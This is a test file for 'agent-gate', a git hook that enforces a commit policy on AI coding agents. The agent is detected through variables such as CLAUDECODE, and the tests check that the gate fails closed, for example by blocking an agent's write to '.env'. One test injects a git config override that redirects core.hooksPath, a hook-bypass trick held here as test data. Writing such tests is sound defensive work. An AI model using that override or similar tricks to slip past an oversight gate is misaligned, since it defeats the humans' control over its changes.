  const BROKEN = 'rules:\n  - capability: fs_write\n    effect: maybe\n    match: ["src/**"]\n';

  test('a broken policy at HEAD fails every commit with one line and no stack trace', () => {
    const s = setup({ policy: BROKEN });
    const before = s.head();
    s.write('src/a.ts', '1\n').add('src/a.ts');
    for (const env of [CLAUDE, {}]) {
      const r = s.commit(['-m', 'x'], env);
      expect(r.code).not.toBe(0);
      expect(s.head()).toBe(before);
      const lines = r.stderr.trim().split('\n');
      expect(lines).toHaveLength(1);
      expect(lines[0]).toMatch(/^agent-gate: \.github\/agent-gate\.yml:3:\d+: /);
      expect(r.stderr).not.toMatch(NO_STACK);
    }
  });

  test('a policy path that is a folder at HEAD fails closed', () => {
    const s = setup({ policy: null, files: { '.github/agent-gate.yml/x': '1\n' } });
    const before = s.head();
    s.write('src/a.ts', '1\n').add('src/a.ts');
    const r = s.commit(['-m', 'x']);
    expect(r.code).not.toBe(0);
    expect(s.head()).toBe(before);
    expect(r.stderr.trim().split('\n')).toEqual(['agent-gate: .github/agent-gate.yml is a folder at HEAD; it must be a policy file']);
  });

  test('agent-gate hook bogus exits 2 with one line', () => {
    const s = setup();
    const r = s.cli(['hook', 'bogus']);
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split('\n')).toEqual([
      'agent-gate: hook: unknown hook "bogus" (expected pre-commit or commit-msg); see \'agent-gate hook --help\'',
    ]);
  });

  test('agent-gate hook with no stage prints help and exits 2', () => {
    const s = setup();
    const r = s.cli(['hook']);
    expect(r.code).toBe(2);
    expect(r.stdout).toContain('Usage: agent-gate hook pre-commit');
  });

  test('hook commit-msg with a missing message file exits 2 with one line (when the commit is judged)', () => {
    const s = setup();
    const r = s.cli(['hook', 'commit-msg', 'no-such-file'], CLAUDE);
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toContain('cannot read the commit message file no-such-file');
  });

  test('hook pre-commit outside a git repository exits 2 with one line', () => {
    const s = setup();
    const r = s.cli(['hook', 'pre-commit'], CLAUDE, tempDir('ag-nogit-'));
    expect(r.code).toBe(2);
    expect(r.stderr.trim().split('\n')).toHaveLength(1);
    expect(r.stderr).toMatch(/^agent-gate: hook pre-commit: git .*not a git repository/);
    expect(r.stderr).not.toContain('internal error');
    expect(r.stderr).not.toMatch(NO_STACK);
  });

  test('a hook that cannot find agent-gate fails the commit', () => {
    const s = setup();
    const before = s.head();
    s.write('src/a.ts', '1\n').add('src/a.ts');
    // The CLI path gone from the hook, and a PATH with git but no node, npx or agent-gate.
    const hook = join(s.dir, '.git', 'hooks', 'pre-commit');
    writeFileSync(hook, readFileSync(hook, 'utf8').replaceAll(DIST_CLI, '/nonexistent/cli.js'));
    const bin = tempDir('ag-bin-');
    const git = run('sh', ['-c', 'command -v git'], s.dir, s.env()).stdout.trim();
    symlinkSync(git, join(bin, 'git'));
    const r = run(git, ['commit', '-m', 'x'], s.dir, { ...s.env(), PATH: bin });
    expect(r.code).not.toBe(0);
    expect(s.head()).toBe(before);
    expect(r.stderr).toContain('agent-gate: the pre-commit hook cannot find agent-gate');
  });
});

describe('isolation', () => {
  test('the env given to git commit carries no inherited git state or agent signal', () => {
    const s = setup();
    const env = s.env();
    for (const k of Object.keys(env)) expect(k.startsWith('GIT_') ? ['GIT_CONFIG_GLOBAL', 'GIT_CONFIG_SYSTEM', 'GIT_CONFIG_NOSYSTEM', 'GIT_AUTHOR_NAME', 'GIT_AUTHOR_EMAIL', 'GIT_COMMITTER_NAME', 'GIT_COMMITTER_EMAIL', 'GIT_EDITOR'] : [k]).toContain(k);
    for (const k of ['CLAUDECODE', 'GEMINI_CLI', 'CODEX_SANDBOX', 'AWS_EXECUTION_ENV']) expect(env[k]).toBeUndefined();
    expect(env['HOME']).toBe(s.home);
  });

  test('the whole flow works with bogus GIT_DIR / GIT_INDEX_FILE / ... in the test process itself', () => {
    const bogus: Record<string, string> = {
      GIT_DIR: '/nonexistent/agent-gate-test/.git',
      GIT_INDEX_FILE: '/nonexistent/agent-gate-test/index',
      GIT_WORK_TREE: '/nonexistent/agent-gate-test',
      GIT_PREFIX: 'nowhere/',
      GIT_OBJECT_DIRECTORY: '/nonexistent/agent-gate-test/objects',
      GIT_ALTERNATE_OBJECT_DIRECTORIES: '/nonexistent/agent-gate-test/alt',
      GIT_COMMON_DIR: '/nonexistent/agent-gate-test/common',
      GIT_CONFIG_PARAMETERS: "'core.hookspath'='/nonexistent/hooks'",
      GIT_CONFIG_COUNT: '1',
      GIT_CONFIG_KEY_0: 'core.hooksPath',
      GIT_CONFIG_VALUE_0: '/nonexistent/hooks',
      CLAUDECODE: '1',
    };
    const saved: Record<string, string | undefined> = {};
    for (const [k, v] of Object.entries(bogus)) { saved[k] = process.env[k]; process.env[k] = v; }
    try {
      // Everything below starts from process.env, bogus values included, and cleans it.
      const s = setup();
      expect(existsSync(join(s.dir, '.git', 'hooks', 'pre-commit'))).toBe(true);
      const before = s.head();
      s.write('src/a.ts', '1\n').add('src/a.ts');
      s.write('.env', 'B=1\n');
      // Human (CLAUDECODE from the parent is not inherited): goes ahead.
      const human = s.commit(['-m', 'human']);
      const h = expectCommitted(s, human, before);
      expect(s.filesOf()).toEqual(['src/a.ts']);
      // Agent commit -a: the hook must judge git's temporary index, not the bogus one.
      const r = s.commit(['-a', '-m', 'agent'], CLAUDE);
      expectBlocked(s, r, h);
      expect(r.stderr).toContain('deny  fs_write  ".env"');
      // git commit <path> in the same conditions.
      s.write('src/keep.ts', '2\n');
      expectCommitted(s, s.commit(['-m', 'agent', '--', 'src/keep.ts'], CLAUDE), h);
      expect(s.filesOf()).toEqual(['src/keep.ts']);
    } finally {
      for (const [k, v] of Object.entries(saved)) { if (v === undefined) delete process.env[k]; else process.env[k] = v; }
    }
  });
});
